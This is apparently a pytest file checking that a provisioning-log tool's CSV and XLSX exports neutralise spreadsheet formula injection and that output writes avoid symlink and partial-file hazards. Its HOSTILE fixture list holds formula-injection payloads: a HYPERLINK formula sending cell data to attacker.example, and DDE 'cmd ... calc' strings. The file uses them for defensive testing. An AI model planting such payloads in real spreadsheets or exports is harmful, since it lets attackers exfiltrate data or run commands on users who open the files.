"""Exports are safe to open and safe to write.

* Formula injection is neutralised in every export path: `report NAME --format csv|xlsx` for every
  report, `export TABLE --format csv` for every table (and events_flat), the dashboard's CSV
  downloads (``dashboard.ui.csv_bytes``) and the support pack. A text cell starting with ``=``,
  ``+``, ``-``, ``@``, tab or CR gets a leading ``'``; numbers stay numbers; no XLSX cell is a
  formula; a CR inside a value never splits a CSV row.
* ``--out`` never writes outside the chosen output: a symlink at the output path is replaced, not
  followed; a failed write leaves no partial or temporary file; a directory is refused.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import openpyxl
import orjson
import pytest

from ingest.schema import TABLES
from ingest.store import Store
from provlens.cli import main
from reports import REPORTS, Filters, Inputs, run_report

# Reports about one user: asked about a user whose name is hostile.
NEEDS_USER = ("timeline", "diagnosis", "user-steps", "user-changes", "user-wiki-requests")

EXAMPLES = Path(__file__).parent / "data" / "examples"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NOW = "2026-11-20T12:00:00Z"


def _records() -> list[dict]:
    doc = json.loads((EXAMPLES / "graph-v1.0-list-provisioning-example2-failure.json").read_text())
    base = doc["value"][0]
    out = []
    for i, payload in enumerate(HOSTILE):
        r = json.loads(json.dumps(base))
        r["id"] = f"hostile-{i}"
        r["changeId"] = f"chg-{i}"
        r["cycleId"] = payload
        r["jobId"] = payload
        r["activityDateTime"] = f"2026-11-20T10:0{i}:00Z"
        r["durationInMilliseconds"] = -5 - i  # a negative number must stay a number
        r["servicePrincipal"] = {"id": "sp-1", "displayName": payload}
        r["sourceIdentity"] = {
            "id": f"src-{i}",
            "displayName": payload,
            "identityType": "User",
            "details": {"UserPrincipalName": f"{payload}@contoso.example"},
        }
        r["targetIdentity"] = {"id": payload, "displayName": payload, "identityType": "User"}
        info = r["provisioningStatusInfo"]
        info["errorInformation"] = {
            **(info.get("errorInformation") or {}),
            "errorCode": payload,
            "reason": payload,
            "recommendedAction": payload,
        }
        for step in r["provisioningSteps"]:
            step["description"] = payload
        r["modifiedProperties"] = [
            {"displayName": payload, "oldValue": payload, "newValue": payload}
        ]
        out.append(r)
    return out


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    logs = root / "logs.json"
    logs.write_bytes(orjson.dumps({"value": _records()}))
    audit = root / "audit.jsonl"
    lines = [
        {
            "time": f"2026-11-20T10:0{i}:01Z",
            "request_id": f"r-{i}",
            "method": "POST",
            "path": "/api/v2/scim/v2/Users",
            "status": 409,
            "client": payload,
            "request": {"userName": payload, "externalId": f"src-{i}", "active": True},
            "response": {"detail": payload, "scimType": "uniqueness"},
        }
        for i, payload in enumerate(HOSTILE)
    ]
    audit.write_bytes(b"\n".join(orjson.dumps(x) for x in lines) + b"\n")
    store = root / "store"
    assert main(["--store", str(store), "ingest", "file", str(logs), str(audit)]) == 0
    return store


def _unsafe_cells(rows: list[list[str]]) -> list[str]:
    bad = []
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _assert_neutralised_csv(data: bytes, where: str) -> int:
    rows = _csv_rows(data)
    assert _unsafe_cells(rows) == [], where
    return sum(1 for row in rows for c in row if c.startswith("'") and c[1:].startswith(TRIGGERS))


def _assert_inert_xlsx(path: Path) -> int:
    book = openpyxl.load_workbook(path)
    quoted = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (path.name, cell.value)
                    quoted += cell.value.startswith("'")
    return quoted


ROW_REPORTS = sorted(REPORTS)


@pytest.mark.parametrize("name", ROW_REPORTS)
def test_report_csv_and_xlsx_neutralised(
    name: str, hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base = ["--store", str(hostile_store), "--now", NOW, "report", name, "--include-noise"]
    if name in NEEDS_USER:
        base += ["--user", "src-0"]
    out_csv, out_xlsx = tmp_path / f"{name}.csv", tmp_path / f"{name}.xlsx"
    assert main([*base, "--format", "csv", "--out", str(out_csv)]) == 0, capsys.readouterr()
    assert main([*base, "--format", "xlsx", "--out", str(out_xlsx)]) == 0, capsys.readouterr()
    _assert_neutralised_csv(out_csv.read_bytes(), name)
    _assert_inert_xlsx(out_xlsx)
    # stdout CSV (no --out) is the same bytes
    capsys.readouterr()
    assert main([*base, "--format", "csv"]) == 0
    assert capsys.readouterr().out.encode() == out_csv.read_bytes()


def test_reports_that_show_names_carry_them_quoted(hostile_store: Path, tmp_path: Path) -> None:
    """The hostile values reach the exports (so the checks above are not vacuous)."""
    quoted = {}
    for name in ("users", "failures", "cycles", "correlation"):
        out = tmp_path / f"{name}.csv"
        argv = ["--store", str(hostile_store), "--now", NOW, "report", name, "--include-noise"]
        assert main([*argv, "--format", "csv", "--out", str(out)]) == 0
        quoted[name] = _assert_neutralised_csv(out.read_bytes(), name)
    assert quoted["users"] >= len(HOSTILE), quoted
    assert quoted["failures"] >= 1, quoted


@pytest.mark.parametrize("table", [*TABLES, "events_flat"])
def test_export_table_csv_neutralised(table: str, hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / f"{table}.csv"
    assert main(["--store", str(hostile_store), "export", table, "--out", str(out)]) == 0
    quoted = _assert_neutralised_csv(out.read_bytes(), table)
    if table in ("events", "events_flat", "steps", "modified_properties", "scim_requests"):
        assert quoted >= len(HOSTILE), (table, quoted)


def test_numbers_stay_numbers(hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    assert main(["--store", str(hostile_store), "export", "events", "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert sorted(int(r["duration_ms"]) for r in rows) == sorted(-5 - i for i in range(6))
    by_id = {r["id"]: r for r in rows}
    assert by_id["hostile-0"]["source_name"] == "'" + HOSTILE[0]
    assert by_id["hostile-4"]["source_name"] == "'" + HOSTILE[4]  # tab
    assert by_id["hostile-5"]["source_name"] == "'" + HOSTILE[5]  # CR, kept inside quotes


def test_dashboard_csv_downloads_and_support_pack_neutralised(
    hostile_store: Path, tmp_path: Path
) -> None:
    """Every table the dashboard offers as CSV goes through dashboard.ui.csv_bytes."""
    import pandas as pd

    from dashboard.ui import csv_bytes
    from reports import export

    store = Store(hostile_store)
    inputs = Inputs(**{t: store.read(t) for t in Inputs.__dataclass_fields__})
    now = pd.Timestamp(NOW)
    seen = 0
    for name in REPORTS:
        params = {"user": "src-0"} if name in NEEDS_USER else {}
        result = run_report(name, inputs, Filters(), include_noise=True, now=now, **params)
        frame = result.frame if result.frame is not None else export.object_frame(result.data or {})
        seen += _assert_neutralised_csv(csv_bytes(frame), f"dashboard {name}")
    assert seen >= len(HOSTILE)
    if hasattr(export, "support_pack"):
        pack = export.support_pack(inputs, "src-0", Filters(), now)
        path = tmp_path / "pack.xlsx"
        path.write_bytes(export.xlsx_bytes(pack))
        assert _assert_inert_xlsx(path) >= 1


# ---- --out paths -------------------------------------------------------------------------------


def test_out_symlink_is_replaced_not_followed(hostile_store: Path, tmp_path: Path) -> None:
    victim = tmp_path / "elsewhere" / "important.txt"
    victim.parent.mkdir()
    victim.write_text("do not touch\n")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    link = out_dir / "report.csv"
    link.symlink_to(victim)
    dangling = out_dir / "table.csv"
    dangling.symlink_to(tmp_path / "elsewhere" / "new-file.csv")
    base = ["--store", str(hostile_store), "--now", NOW]
    assert main([*base, "report", "users", "--format", "csv", "--out", str(link)]) == 0
    assert main([*base, "export", "events", "--out", str(dangling)]) == 0
    assert victim.read_text() == "do not touch\n"
    assert not (tmp_path / "elsewhere" / "new-file.csv").exists()
    assert not link.is_symlink() and link.read_text().startswith("source_id")
    assert not dangling.is_symlink() and dangling.read_text().startswith("id,")
    assert sorted(p.name for p in (tmp_path / "elsewhere").iterdir()) == ["important.txt"]


def test_failed_write_leaves_no_partial_file(
    hostile_store: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    import reports.export as export_mod

    out_dir = tmp_path / "out"
    out_dir.mkdir()
    (out_dir / "keep.csv").write_text("previous\n")

    def full_disk(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export_mod.os, "fsync", full_disk)
    base = ["--store", str(hostile_store), "--now", NOW]
    for argv in (
        [*base, "report", "users", "--format", "csv", "--out", str(out_dir / "new.csv")],
        [*base, "report", "users", "--format", "xlsx", "--out", str(out_dir / "keep.csv")],
        [*base, "export", "events", "--out", str(out_dir / "events.csv")],
    ):
        code = main(argv)
        err = capsys.readouterr().err
        assert code != 0 and err.count("\n") == 1, err
        assert "No space left" in err
    assert sorted(os.listdir(out_dir)) == ["keep.csv"]  # no partial, no temporary file
    assert (out_dir / "keep.csv").read_text() == "previous\n"


def test_out_directory_refused(
    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    d = tmp_path / "a-dir"
    d.mkdir()
    code = main(["--store", str(hostile_store), "export", "events", "--out", str(d)])
    assert code == 2 and "directory" in capsys.readouterr().err
    assert list(d.iterdir()) == []
